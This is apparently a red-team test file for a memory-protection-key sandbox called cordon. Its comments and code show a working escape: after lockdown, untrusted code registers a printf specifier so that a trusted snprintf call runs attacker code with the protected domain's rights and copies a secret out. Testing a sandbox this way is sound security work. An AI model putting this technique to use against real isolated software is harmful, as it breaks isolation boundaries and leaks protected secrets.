// Trusted snprintf() calls a function that untrusted code registered.
//
// glibc's printf keeps its user-specifier tables (__printf_function_table,
// __printf_arginfo_table, __printf_modifier_table) in libc's writable .bss,
// untrusted memory. When any of them is non-NULL, vfprintf takes the
// positional path and calls __printf_arginfo_table[spec] and
// __printf_function_table[spec] for every conversion, plain function
// pointers (no mangling). After the lockdown untrusted code simply calls
// register_printf_specifier('d', ...): a trusted entry that formats an
// integer with snprintf() into a stack buffer (allowed: "snprintf into a
// buffer") then runs the attacker's arginfo function with the domain's
// PKRU, on the trusted stack. It copies the secret out and returns as the
// real 'd' would; the converter returns -2 ("use the built-in").
//
//   tools/cordon-pku-run --kernel 6.1 -- build/redteam/printf_table
//   tools/cordon-pku-run --kernel 6.12 -- build/redteam/printf_table
#define _GNU_SOURCE
#include <printf.h>
#include "common.h"

static cordon_entry g_fmt;
static uint8_t g_stolen[32];
static volatile int g_ran;

// An ordinary trusted entry: "id=<n>" into the caller's checked buffer.
static uint64_t e_fmt(uint64_t n, uint64_t out, uint64_t outlen, uint64_t d, uint64_t e) {
  (void)d; (void)e;
  char buf[64];
  int l = snprintf(buf, sizeof buf, "id=%d", (int)n);
  if (l < 0 || outlen == 0 || !cordon_is_untrusted_range((void*)out, outlen)) return (uint64_t)-1;
  if ((uint64_t)l >= outlen) l = (int)outlen - 1;
  memcpy((void*)out, buf, (size_t)l);
  ((char*)out)[l] = 0;
  return (uint64_t)l;
}

static int evil_arginfo(const struct printf_info* info, size_t n, int* argtypes, int* size) {
  (void)info;
  uint32_t pkru = 0;
  __asm__ volatile("xor ecx, ecx; rdpkru" : "=a"(pkru) : : "rcx", "rdx");
  memcpy(g_stolen, g_secret, 32);  // faults unless we hold the domain's rights
  g_ran = (int)pkru | 1;
  if (n > 0) { argtypes[0] = PA_INT; size[0] = sizeof(int); }
  return 1;
}
static int evil_convert(FILE* f, const struct printf_info* info, const void* const* args) {
  (void)f; (void)info; (void)args;
  return -2;  // the built-in conversion
}

int main(void) {
  setup(0);
  cordon_register(g_dom, e_fmt, "fmt", &g_fmt);
  const uint64_t want = cordon_call(g_hash, 0, 0, 0, 0, 0);
  if (cordon_lockdown() != 0) { printf("lockdown failed\n"); return 1; }
  char out[64];
  cordon_call(g_fmt, 42, (uint64_t)out, sizeof out, 0, 0);
  printf("ordinary call: \"%s\"\n", out);
  fflush(stdout);
  // Untrusted code, after the lockdown: a plain libc call.
  if (register_printf_specifier('d', evil_convert, evil_arginfo) != 0) { printf("register failed\n"); return 1; }
  g_ran = 0;
  cordon_call(g_fmt, 43, (uint64_t)out, sizeof out, 0, 0);
  printf("after register_printf_specifier: \"%s\", arginfo ran with PKRU %#x\n", out, g_ran & ~1);
  dump("copied by the arginfo function", g_stolen, 32);
  printf("%s\n", fnv(g_stolen, 32) == want ? "fnv matches the secret: SECRET LEAKED" : "fnv does not match");
  return 0;
}
